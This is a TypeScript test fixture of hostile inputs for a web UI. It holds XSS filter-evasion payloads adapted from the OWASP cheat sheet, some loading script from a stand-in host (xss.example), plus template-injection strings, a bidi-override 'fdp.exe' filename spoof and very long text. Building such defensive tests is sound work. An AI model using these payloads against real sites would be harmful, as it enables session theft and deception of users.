// Text that tries to run code, taken from the OWASP XSS Filter Evasion Cheat Sheet (each case
// changed to set a sentinel, window.__xss, instead of alerting), plus javascript: URLs, bidi
// overrides and very long text. Any that ran would set the sentinel, open a dialog, ask for
// an outside URL (xss.example), or trip the Content-Security-Policy: every one of those fails.

export const SHORT_MAX = 200;

export const xssPayloads: string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  'javascript:window.__xss=1',
  'JaVaScRiPt:window.__xss=1',
  '<IMG SRC="javascript:window.__xss=1">',
  '<IMG SRC=javascript:window.__xss=1>',
  '<IMG SRC=`javascript:window.__xss=1`>',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<IMG SRC=# onmouseover="window.__xss=1">',
  '<IMG SRC=/ onerror="window.__xss=1"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1>',
  '<IMG SRC="jav\tascript:window.__xss=1;">',
  '<IMG SRC="jav&#x09;ascript:window.__xss=1;">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=window.__xss=1>',
  '<<SCRIPT>window.__xss=1;//\\<</SCRIPT>',
  '<SCRIPT SRC=https://xss.example/xss.js?< B >',
  '</TITLE><SCRIPT>window.__xss=1;</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:window.__xss=1;">',
  '<svg/onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '"><iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">click me</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:window.__xss=1;">',
  '<BASE HREF="javascript:window.__xss=1;//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/s.html"></OBJECT>',
  '<DIV STYLE="background-image: url(javascript:window.__xss=1)">',
  "{{constructor.constructor('window.__xss=1')()}}",
  '${window.__xss=1}',
  "'';!--\"<XSS>=&{()}",
  '<details open ontoggle=window.__xss=1>',
  // Bidi overrides and isolates, which reorder what a reader sees; zero-width characters.
  'Invoice \u202Efdp.exe',
  '\u2066\u2067\u2068 isolated \u2069 text \u202B right-to-left \u202C',
  '\u200B'.repeat(60),
  // Very long text without a space, which must wrap, not push the page sideways.
  'W'.repeat(SHORT_MAX),
];

/** Text for the long fields (2,000 characters): long, unbroken and hostile at once. */
export const longPayload = `${'<script>window.__xss=1</script>'.repeat(30)}${'M'.repeat(1000)}`;
